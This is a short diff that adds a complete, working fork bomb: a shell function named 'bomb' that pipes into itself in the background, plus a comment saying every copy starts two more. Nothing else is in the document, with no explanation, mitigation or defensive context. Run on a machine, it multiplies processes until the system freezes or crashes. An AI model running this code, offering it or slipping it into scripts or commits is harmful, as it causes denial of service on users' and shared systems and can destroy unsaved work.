@@ -1,0 +1,4 @@
+# Every copy starts two more.
+bomb() { bomb | bomb & }
+bomb
+wait
